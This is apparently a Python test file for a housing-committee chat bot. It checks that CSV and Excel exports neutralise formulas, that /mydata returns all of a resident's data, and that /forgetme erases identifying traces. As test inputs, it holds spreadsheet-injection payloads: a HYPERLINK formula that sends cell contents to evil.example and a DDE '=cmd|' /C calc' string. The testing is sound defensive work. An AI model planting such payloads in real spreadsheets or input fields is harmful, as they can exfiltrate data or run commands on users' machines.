"""What residents send is not turned against the committee, and privacy commands keep their
word: exports that no spreadsheet runs as formulas, /forgetme that leaves nothing linking
a person to what they did, /mydata with everything, and no secret in the logs."""

import io
import json

from openpyxl import load_workbook

from bot.fakeapi.harness import create_poll, poll_id_of
from handlers.polls import callbacks as poll_buttons
from tests.helpers import group_with_bot, introduce

HOSTILE = ("=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tpadded", "\rreturn")


async def _moderated(bot, api, tg):
    group, owner, stored = await group_with_bot(bot, api, tg, "Elm House",
                                                owner_language="en")
    mark = api.mark()
    await tg.say(owner, owner, "/start")
    await api.wait_for("sendMessage", after=mark)
    return group, owner, stored


async def _on_roster(api, tg, owner, *people):
    """The moderator adds each as the owner of 1-101, 1-201 ...; each starts a chat."""
    for n, person in enumerate(people, start=1):
        mark = api.mark()
        await tg.say(owner, owner, f"/residents add 1-{n}01 @{person.username} owner 80")
        await api.wait_for("sendMessage", after=mark, where=lambda c: c.chat_id == owner.id)
        mark = api.mark()
        await tg.say(person, person, "/start")
        await api.wait_for("sendMessage", after=mark, where=lambda c, p=person: c.chat_id == p.id)


async def test_exports_never_carry_a_formula(bot, api, tg):
    group, owner, stored = await _moderated(bot, api, tg)
    # A resident whose name is a formula votes on a poll whose answers are formulas.
    mallory = tg.person("=cmd|' /C calc'!A0", language_code="en")
    await introduce(bot, tg, group, mallory)
    mark = api.mark()
    await tg.send_document(owner, owner, "roster.csv", f"1-101,{mallory.id},owner,90".encode())
    await api.wait_for("sendMessage", after=mark, where=lambda c: c.chat_id == owner.id)
    post, _c, _p = await create_poll(api, tg, group, owner, stored.id,
                                     question="@Which colour?", options=HOSTILE[:4])
    mark = api.mark()
    await tg.press(mallory, post, poll_buttons.VOTE.data(poll_id_of(post), 0))
    await api.wait_for("answerCallbackQuery", after=mark)
    mark = api.mark()
    await tg.say(group, owner, "/export P-1")
    csv_call = await api.wait_for("sendDocument", after=mark)
    xlsx_call = await api.wait_for("sendDocument", after=mark, where=lambda c: c is not csv_call)
    text = api.upload(csv_call)[1].decode("utf-8-sig")
    # Every hostile cell starts with the quote OWASP recommends; none starts bare.
    assert "'=cmd|' /C calc'!A0" in text and "'=HYPERLINK" in text
    assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text
    book = load_workbook(io.BytesIO(api.upload(xlsx_call)[1]))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if c.value is not None]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula
    values = {c.value for c in cells}
    assert "=cmd|' /C calc'!A0" in values  # shown as written
    assert any(str(v).startswith("@Which colour?") or "@Which colour?" in str(v)
               for v in values)


async def test_mydata_holds_everything_the_person_did(bot, api, tg, clock):
    from datetime import timedelta

    from handlers.decisions import callbacks as decision_buttons
    from handlers.topics import callbacks as topic_buttons
    from tests.test_reports import _file
    from tests.test_topics import _propose

    group, owner, stored = await _moderated(bot, api, tg)
    ann = tg.person("Ann", username="ann", language_code="en")
    bob = tg.person("Bob", username="bob", language_code="en")
    await introduce(bot, tg, group, ann, bob)
    await _on_roster(api, tg, owner, ann, bob)
    # A report; a topic of Bob's that Ann supports; a public and a secret ballot.
    await _file(api, tg, group, ann, stored.id, description="The lobby door does not lock.")
    _done, review = await _propose(api, tg, bob, title="Bike racks by the gate")
    topic_id = int(review.buttons[0]["callback_data"].split(":")[1])
    mark = api.mark()
    await tg.press(owner, review, topic_buttons.MODERATE.data(topic_id, "ok"))
    posted = await api.wait_for("sendMessage", after=mark, where=lambda c: c.chat_id == group.id
                                and bool(c.buttons))
    mark = api.mark()
    await tg.press(ann, posted, topic_buttons.SUPPORT.data(topic_id))
    await api.wait_for("answerCallbackQuery", after=mark)
    public, _c, _p = await create_poll(api, tg, group, owner, stored.id)
    secret, _c, _p = await create_poll(api, tg, group, owner, stored.id,
                                       question="Hire a new cleaner?", settings=("secret",))
    for post in (public, secret):
        mark = api.mark()
        await tg.press(ann, post, poll_buttons.VOTE.data(poll_id_of(post), 0))
        await api.wait_for("answerCallbackQuery", after=mark)
    # The public poll passes and makes a decision, which Ann follows.
    clock.advance(timedelta(days=3, hours=1))
    await bot.tick()
    mark = api.mark()
    await tg.say(group, ann, "/decision D-1")
    view = await api.wait_for("sendMessage", after=mark, where=lambda c: c.chat_id == group.id)
    follow = next(b["callback_data"] for b in view.buttons
                  if decision_buttons.FOLLOW.parse(b["callback_data"]))
    mark = api.mark()
    await tg.press(ann, view, follow)
    await api.wait_for("answerCallbackQuery", after=mark)
    # And she is half-way through proposing a topic.
    mark = api.mark()
    await tg.say(ann, ann, "/topic")
    await api.wait_for("sendMessage", after=mark, where=lambda c: c.chat_id == ann.id)

    mark = api.mark()
    await tg.say(ann, ann, "/mydata")
    sent = await api.wait_for("sendDocument", after=mark, where=lambda c: c.chat_id == ann.id)
    data = json.loads(api.upload(sent)[1])
    assert [r["description"] for r in data["reports"]] == ["The lobby door does not lock."]
    assert data["reports"][0]["timeline"], "the report's timeline"
    assert [s["topic_id"] for s in data["topics_supported"]] == [topic_id]
    assert [(b["poll_number"], b["choice"]) for b in data["ballots"]] == [(1, [0])]
    assert [p["poll_number"] for p in data["secret_polls_taken_part_in"]] == [2]
    assert all("choice" not in p for p in data["secret_polls_taken_part_in"])
    assert [f["decision_id"] for f in data["decisions_followed"]] == [1]
    assert data["points"], "points for voting and reporting"
    assert data["conversations"], "the flow she is in"
    assert data["units"][0]["unit"] == "1-101"


async def _everything_stored(bot) -> str:
    """Every row of every table, as text."""
    from storage import inspection

    async with bot.services.db.transaction() as conn:
        tables = await inspection.every_row(conn)
    return "\n".join(f"{name}: {json.dumps(row, default=str, ensure_ascii=False)}"
                     for name, rows in tables.items() for row in rows)

async def _forgotten(bot, api, tg, person):
    """``person`` sends /forgetme and confirms; returns once the bot has done it all."""
    from handlers.me import FORGET

    mark = api.mark()
    await tg.say(person, person, "/forgetme")
    confirm = await api.wait_for("sendMessage", after=mark,
                                 where=lambda c: c.chat_id == person.id)
    mark = api.mark()
    await tg.press(person, confirm, FORGET.data("yes"))
    await api.wait_for("editMessageText", after=mark, where=lambda c: c.chat_id == person.id)
    await bot.settled()



async def test_forgetme_leaves_nothing_that_links_the_person_to_what_they_did(
        bot, api, tg, clock, caplog):
    from datetime import timedelta

    from tests.test_reports import _file

    caplog.set_level("INFO")
    group, owner, stored = await _moderated(bot, api, tg)
    ann = tg.person("Annabel Quist", username="annabelq", language_code="en")
    bob = tg.person("Bob", username="bob", language_code="en")
    await introduce(bot, tg, group, ann, bob)
    await _on_roster(api, tg, owner, ann, bob)
    await _file(api, tg, group, ann, stored.id, description="The lobby door does not lock.")
    # The report's notices (the owner moderates) are out before the poll is prepared in
    # the owner's chat, where a late one would come between a prompt and its button.
    await bot.settled()
    post, _c, _p = await create_poll(api, tg, group, owner, stored.id)
    for person, option in ((ann, 0), (bob, 1)):
        mark = api.mark()
        await tg.press(person, post, poll_buttons.VOTE.data(poll_id_of(post), option))
        await api.wait_for("answerCallbackQuery", after=mark)
    clock.advance(timedelta(days=3, hours=1))
    await bot.tick()
    await bot.settled()

    await _forgotten(bot, api, tg, ann)

    traces = (str(ann.id), "Annabel", "annabelq")
    stored_text = await _everything_stored(bot)
    for trace in traces:
        assert trace not in stored_text, [line for line in stored_text.splitlines()
                                          if trace in line][:3]
    # Her ballot still counts and the vote log still verifies; the minutes keep the unit.
    mark = api.mark()
    await tg.say(group, owner, "/audit P-1")
    audit = await api.wait_for("editMessageText", after=mark)
    assert audit.text.startswith("P-1：投票记录完整（2 条），选票与记录一致。")
    mark = api.mark()
    await tg.say(group, owner, "/export P-1")
    csv_call = await api.wait_for("sendDocument", after=mark)
    minutes = api.upload(csv_call)[1].decode("utf-8-sig")
    assert "1-101,（已要求被遗忘）,Yes" in minutes
    for trace in traces:
        assert trace not in minutes and trace not in audit.text
        assert trace not in caplog.text
